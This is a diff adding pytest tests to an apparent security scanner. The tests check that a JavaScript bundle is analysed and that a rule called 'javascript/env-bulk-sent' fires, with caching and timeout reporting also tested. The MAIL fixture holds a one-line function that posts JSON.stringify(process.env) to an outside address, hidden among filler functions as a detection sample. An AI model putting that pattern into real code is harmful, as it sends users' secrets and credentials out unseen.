@@ -90,6 +90,37 @@ def test_the_same_bytes_are_read_once_and_reported_in_their_first_place(tmp_path
     assert engine.asked == [1, 1]
 
 
+LIBRARY = "function lib%d(value, other) {\n" + "  log('some text', value);\n" * 60 + "}\n"
+MAIL = "function mail() {\n  fetch(address, {body: JSON.stringify(process.env)});\n}\n"
+
+
+def test_a_bundle_is_read_where_rules_can_match_and_says_how_far(tmp_path: Path) -> None:
+    engine = Counting()
+    code = [LIBRARY % number for number in range(260)]
+    bundle = "".join((*code[:130], MAIL, *code[130:]))
+    first = run(tmp_path, engine, tree({"dist/index.js": bundle}))
+    line = bundle[: bundle.index("  fetch(")].count("\n") + 1
+    assert ("javascript/env-bulk-sent", "dist/index.js", line) in rules(first)
+    (gap,) = first.unread
+    assert gap.why == (
+        f"a bundle of {len(bundle) >> 10} kB: 1 of its 261 functions and statements read by syntax "
+        "rules, the rest by byte-level rules only"
+    )
+    assert engine.asked == [1]
+    changed = "function fresh() { return 1; }\n" + bundle.replace("lib200(", "lib201(")
+    again = run(tmp_path, engine, tree({"dist/index.js": changed}))
+    assert ("javascript/env-bulk-sent", "dist/index.js", line + 1) in rules(again)
+    assert engine.asked == [1], "a new version costs what is new in it"
+
+
+def test_a_bundle_whose_region_failed_does_not_count_it(tmp_path: Path) -> None:
+    engine = Counting(slow="JSON.stringify")
+    bundle = "".join(LIBRARY % number for number in range(260)) + MAIL
+    (gap,) = run(tmp_path, engine, tree({"dist/index.js": bundle})).unread
+    assert ": 0 of its 261 functions and statements read" in gap.why
+    assert gap.why.endswith("; took too long")
+
+
 def test_a_language_is_part_of_what_was_scanned(tmp_path: Path) -> None:
     engine = Counting()
     run(tmp_path, engine, tree({"a.js": READS}))
